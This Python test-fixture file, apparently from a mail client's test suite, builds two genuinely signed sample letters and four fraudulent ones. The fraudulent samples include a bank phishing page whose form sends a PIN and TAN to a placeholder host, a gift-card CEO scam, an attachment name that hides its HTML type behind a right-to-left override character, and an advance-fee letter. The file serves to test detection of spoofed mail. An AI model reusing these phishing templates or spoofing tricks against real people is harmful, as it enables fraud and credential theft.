# SPDX-FileCopyrightText: 2026 The Restante developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""Mail that asks to be believed: two that are really signed, and four that lie about who they are."""
import os

from mailkit import HERE, Letter, Part, attachment, html, lines, mixed, multipart, text


def read(name):
    with open(os.path.join(HERE, "signed", name), "rb") as file:
        return file.read()


def part_of(name):
    head, body = read(name).split(b"\r\n\r\n", 1)
    return Part(head.decode().split("\r\n"), body)


def pgp():
    signature = Part(['Content-Type: application/pgp-signature; name="signature.asc"', "Content-Description: OpenPGP digital signature",
                      'Content-Disposition: attachment; filename="signature.asc"'], lines(read("pgp.asc")))
    return multipart("signed", part_of("pgp-part.txt"), signature, parameters=' micalg=pgp-sha256;\r\n protocol="application/pgp-signature";')


def smime():
    return multipart("signed", part_of("smime-part.txt"), attachment("smime.p7s", "application/pkcs7-signature", read("smime.p7s")),
                     parameters=' protocol="application/pkcs7-signature";\r\n micalg=sha-256;')


def phishing():
    return html("""<html><body style="background:#f4f5f7;font-family:Arial"><table width="560" align="center" bgcolor="#ffffff" cellpadding="24"><tr><td>
<img src="http://cheap-host-441.example/logo.png" width="180" height="40" alt="Seemannssparkasse">
<h2 style="color:#b3261e">Your account has been limited!</h2>
<p>Dear costumer,</p>
<p>we have detect unusual activity on your account. To avoid that your account will be <b>closed in 24 hours</b>, please confirm your data immediatly:</p>
<p><a href="http://seemannssparkasse.example.login-secure.cheap-host-441.example/verify?m=anna@posteo.example" style="background:#2762bd;color:#ffffff;padding:12px 28px;text-decoration:none">https://www.seemannssparkasse.example/login</a></p>
<form action="http://cheap-host-441.example/collect" method="post"><p>Or answer here: PIN <input type="password" name="pin" size="6"> TAN <input name="tan" size="8"> <input type="submit" value="Confirm"></p></form>
<p>Seemannssparkasse Security Departement</p><script>document.location='http://cheap-host-441.example/'</script>
<img src="http://cheap-host-441.example/o.gif?anna@posteo.example" width="1" height="1">
</td></tr></table></body></html>""")


def refused(domain):
    return ("Authentication-Results: mail.posteo.example; dkim=none;\r\n\tspf=softfail smtp.mailfrom=" + domain + "; dmarc=fail header.from=" + domain,)


def letters():
    return [
        Letter("2d 14:14", ("Henk de Vries", "henk@surveyor.example"), "List of bollards, signed", pgp()),
        Letter("9d 10:30", ("Hafenamt, Liegeplätze", "liegeplatz@hafenamt.example"), "Eingangsbestätigung HA-2218/26", smime()),
        Letter("1d 03:33", ("Seemannssparkasse service@seemannssparkasse.example", "x8812@cheap-host-441.example"), "URGENT: your account will be closed!!", phishing(),
               extra=("Reply-To: confirm-desk@freemail-77.example", "X-Priority: 1", *refused("cheap-host-441.example"))),
        Letter("6d 02:12", ("Jonas Bergström", "jonas.bergstrom@hamn-se.example"), "are you at your desk?", text(
            "Anna,\n\nare you available? I need you to buy some gift cards for a partner, I am in a meeting and can not call.\nScratch them and send me the codes.\n\nJonas\n\nSent from my iPhone\n"),
            extra=("Reply-To: jonas.bergstrom.ceo@freemail-77.example", *refused("hamn-se.example"))),
        Letter("7d 23:51", ("Voice Message", "noreply@voip-desk.example"), "You have 1 new voice message (0:42)", mixed(html("<p>Press the attachment to listen.</p>"),
               attachment("Voice_message\u202egpm.html", "text/html", b"<html><body><h1>Sign in to listen</h1><form action='http://cheap-host-441.example/v'></form></body></html>")), extra=refused("voip-desk.example")),
        Letter("12d 01:01", ("Mrs. Gloria Mbeki-Windsor", "gloria@lottery-office.example"), "DEAR BELOVED, YOUR FUND OF $4,500,000.00 USD IS READY", "DEAR BELOVED,\n\nI AM THE WIDOW OF AN ADMIRAL. BEFORE HE DIED HE BURIED A SUBMARINE.\n"
               "I NEED ONLY YOUR NAME, YOUR BANK AND A SMALL FEE OF $250 FOR THE SHOVEL.\n\nGOD BLESS\nMRS. GLORIA\n", to=(("undisclosed", "recipients@lottery-office.example"),), extra=refused("lottery-office.example")),
    ]
